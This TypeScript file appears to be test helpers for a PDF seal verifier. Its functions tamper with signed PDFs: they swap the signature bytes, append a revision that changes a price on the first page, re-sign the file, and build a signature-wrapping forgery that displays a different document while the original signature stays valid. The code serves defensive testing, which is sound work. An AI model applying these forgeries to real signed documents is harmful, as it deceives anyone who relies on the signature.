import { CryptoKeySigner, PDF } from '@libpdf/core'
import type { SealKey } from '../authority.ts'

/** The parts of a sealed file, found as an attacker would: by searching. */
export interface SealedParts {
  bytes: Buffer
  /** The gap, angle brackets included. */
  gapStart: number
  gapEnd: number
  /** Characters of the signature itself, without its padding. */
  signatureLength: number
}

export function partsOf(sealed: Uint8Array): SealedParts {
  const bytes = Buffer.from(sealed)
  const text = bytes.toString('latin1')
  const [, gapStart = 0, gapEnd = 0] = (/\/ByteRange \[0 (\d+) (\d+) \d+\]/.exec(text) ?? []).map(
    Number,
  )
  const signatureLength = 2 * (4 + Number.parseInt(text.slice(gapStart + 5, gapStart + 9), 16))
  return { bytes, gapStart, gapEnd, signatureLength }
}

/** Replaces the signature without changing the file's length. */
export function withSignature(sealed: Uint8Array, hex: string): Buffer {
  const { bytes, gapStart, gapEnd } = partsOf(sealed)
  const forged = Buffer.from(bytes)
  forged.write(hex.padEnd(gapEnd - gapStart - 2, '0'), gapStart + 1, 'latin1')
  return forged
}

/** A later update that overwrites the first page, as a PDF editor would save it. */
export async function appendRevision(sealed: Uint8Array): Promise<Uint8Array> {
  const document = await PDF.load(sealed)
  document.getPage(0)?.drawText('Prix : 1 EUR', { x: 80, y: 500, size: 30 })
  return document.save({ incremental: true })
}

/** One more signature, made with the library's own signing. */
export async function signAgain(
  pdf: Uint8Array,
  { privateKey, chain }: SealKey,
  at: Date,
): Promise<Uint8Array> {
  const document = await PDF.load(pdf)
  const [certificate, ...issuers] = chain
  const signer = new CryptoKeySigner(privateKey, certificate, 'RSA', 'RSASSA-PKCS1-v1_5', issuers)
  return (await document.sign({ signer, signingTime: at })).bytes
}

/**
 * Signature wrapping (Mladenov et al., 2019): the signed bytes stay where a digest finds them, while a new table,
 * which the old `startxref` happens to point to, shows another document from inside a widened gap. The signature is
 * cryptographically valid.
 */
export function wrapSignature(sealed: Uint8Array): Buffer {
  const { bytes, gapStart, gapEnd } = partsOf(sealed)
  const text = bytes.toString('latin1')
  const tableAt = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(text)?.[1])
  const before = bytes.subarray(0, gapStart)
  const contents = text.slice(gapStart, gapEnd)
  const after = bytes.subarray(gapEnd)
  const build = (afterAt: number) => {
    const objects: [number, string][] = [
      [
        9001,
        `<</Type/Catalog/Pages 9002 0 R/AcroForm<</SigFlags 3/Fields[9004 0 R]>>/Perms<</DocMDP 9005 0 R>>>>`,
      ],
      [9002, '<</Type/Pages/Count 1/Kids[9003 0 R]>>'],
      [9003, '<</Type/Page/Parent 9002 0 R/MediaBox[0 0 99 99]/Resources<<>>/Annots[9004 0 R]>>'],
      [
        9004,
        '<</Type/Annot/Subtype/Widget/FT/Sig/T(Seal)/Rect[0 0 0 0]/F 132/P 9003 0 R/V 9005 0 R>>',
      ],
      [
        9005,
        `<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[0 ${gapStart} ${afterAt} ${after.length}]/Contents ${contents}/M(D:20260330081544Z)/Reference[<</Type/SigRef/TransformMethod/DocMDP/TransformParams<</P 1>>>>]>>`,
      ],
    ]
    const filler = ' '.repeat(tableAt - gapEnd)
    const bodies = objects.map(([number, body]) => `${number} 0 obj${body}endobj\n`)
    const tableLength = `xref\n9001 5\n`.length + 20 * 5
    const trailer = 'trailer<</Size 9006/Root 9001 0 R>>\n'
    let offset = tableAt + tableLength + trailer.length
    const entries = bodies.map((body) => {
      const entry = `${String(offset).padStart(10, '0')} 00000 n\r\n`
      offset += body.length
      return entry
    })
    return `${contents}${filler}xref\n9001 5\n${entries.join('')}${trailer}${bodies.join('')}`
  }
  const length = build(10_000_000).length - '10000000'.length + String(gapStart + 20_000).length
  const afterAt = gapStart + length
  return Buffer.concat([before, Buffer.from(build(afterAt), 'latin1'), after])
}
